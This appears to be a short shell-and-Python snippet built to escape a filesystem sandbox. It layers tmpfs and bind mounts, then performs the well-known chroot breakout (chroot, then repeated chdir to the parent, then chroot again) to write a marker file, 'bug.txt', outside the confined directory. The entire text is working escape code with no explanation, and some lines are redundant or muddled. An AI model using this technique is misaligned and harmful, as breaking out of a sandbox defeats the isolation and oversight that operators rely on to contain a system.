mount -t tmpfs none .; mount --bind "$OUT" .; mount -o bind,rw "$OUT" "$DONE" && echo x >"$DONE/bug.txt"
python3 - <<'P'
import ctypes, os
libc = ctypes.CDLL(None)
libc.chroot(b".")
os.chroot(".") if os.geteuid() == 0 else None
for _ in range(40): os.chdir("..")
os.chroot(".")
open(os.environ["OUT"] + "/bug.txt", "w").write("x")
P
